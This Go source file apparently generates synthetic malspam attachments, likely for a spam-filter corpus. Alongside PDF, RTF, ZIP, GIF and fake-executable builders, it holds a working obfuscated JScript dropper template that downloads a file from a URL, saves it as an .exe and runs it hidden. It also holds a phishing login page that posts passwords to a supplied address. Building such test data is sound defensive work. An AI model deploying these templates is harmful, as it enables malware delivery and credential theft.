package spam

import (
	"archive/zip"
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// Attachments carry real bytes, so their sizes and SHA-256 sums mean something,
// and some carry the only copy of a link.

type zipEntry struct {
	name string
	data []byte
}

// makeZip packs entries with fixed timestamps: the same entries give the same bytes.
func makeZip(entries []zipEntry, mod time.Time) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: mod.UTC()})
		if err != nil {
			panic(err)
		}
		w.Write(e.data)
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// makePDF writes a one-page PDF whose text and link annotation hold uri, with a
// correct cross-reference table.
func makePDF(lines []string, uri string) []byte {
	var b bytes.Buffer
	var offsets []int
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	obj := func(s string) {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", len(offsets), s)
	}
	var content strings.Builder
	content.WriteString("BT\n/F1 12 Tf\n72 720 Td\n16 TL\n")
	for _, l := range lines {
		fmt.Fprintf(&content, "(%s) Tj T*\n", pdfEscape(l))
	}
	content.WriteString("ET")
	obj("<< /Type /Catalog /Pages 2 0 R >>")
	obj("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	obj("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R] >>")
	obj(fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", content.Len(), content.String()))
	obj("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	obj(fmt.Sprintf("<< /Type /Annot /Subtype /Link /Rect [72 560 540 720] /Border [0 0 0] /A << /S /URI /URI (%s) >> >>", pdfEscape(uri)))
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(offsets)+1)
	for _, o := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(offsets)+1, xref)
	return b.Bytes()
}

func pdfEscape(s string) string {
	return strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace(s)
}

// makeRTF writes the office document malspam favours: RTF (often named .doc) with
// a HYPERLINK field. Unlike OOXML it holds no schema URLs beside the link.
func makeRTF(lines []string, uri string) []byte {
	var b strings.Builder
	b.WriteString("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Arial;}}\n")
	b.WriteString("{\\info{\\author Administrator}{\\company Microsoft}}\n\\f0\\fs22 ")
	for _, l := range lines {
		b.WriteString(rtfEscape(l) + "\\par\n")
	}
	fmt.Fprintf(&b, "{\\field{\\*\\fldinst{HYPERLINK \"%s\"}}{\\fldrslt{\\ul %s}}}\\par\n}\n", uri, uri)
	return []byte(b.String())
}

func rtfEscape(s string) string {
	return strings.NewReplacer(`\`, `\\`, "{", `\{`, "}", `\}`).Replace(s)
}

// makeDropper is the script of a zipped JavaScript downloader.
func makeDropper(r *rand.Rand, uri string) []byte {
	v := func() string { return randLower(r, 3+r.IntN(5)) }
	a, b2, c, d := v(), v(), v(), v()
	return []byte(fmt.Sprintf(`var %s = "%s";
var %s = new ActiveXObject("MSXML2.XMLHTTP");
%s.open("GET", %s, false);
%s.send();
var %s = new ActiveXObject("ADODB.Stream");
%s.Type = 1; %s.Open(); %s.Write(%s.responseBody);
var %s = WScript.CreateObject("WScript.Shell").ExpandEnvironmentStrings("%%TEMP%%") + "\\%s.exe";
%s.SaveToFile(%s, 2);
WScript.CreateObject("WScript.Shell").Run(%s, 0);
`, a, uri, b2, b2, a, b2, c, c, c, c, b2, d, randLower(r, 6), c, d, d))
}

// makeExe is a fake Windows executable: a DOS stub and noise.
func makeExe(r *rand.Rand) []byte {
	b := make([]byte, 2048+r.IntN(4096))
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
	copy(b[0x4e:], "This program cannot be run in DOS mode.\r\r\n$")
	copy(b[0x80:], "PE\x00\x00\x4c\x01")
	return b
}

// makeGIF is a 1x1 GIF in a colour of the sender's choice.
func makeGIF(r *rand.Rand) []byte {
	return []byte{'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0x80, 0, 0,
		byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256)), 0xff, 0xff, 0xff,
		0x21, 0xf9, 0x04, 0x01, 0, 0, 0, 0,
		0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0, 0x3b}
}

// makeLoginPage is an HTML attachment that posts credentials to href (already
// escaped for an attribute).
func makeLoginPage(title, rcpt, href string) []byte {
	return []byte(fmt.Sprintf(`<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>%s</title>
<style>body{font-family:Arial;background:#f3f3f3}form{margin:60px auto;width:320px;background:#fff;padding:24px}</style>
</head><body>
<form method="POST" action="%s">
<h3>%s</h3>
<input type="email" name="login" value="%s"><br>
<input type="password" name="passwd" placeholder="Password"><br>
<button type="submit">Sign in</button>
</form>
<script>document.forms[0].passwd.focus();</script>
</body></html>
`, title, href, title, rcpt))
}
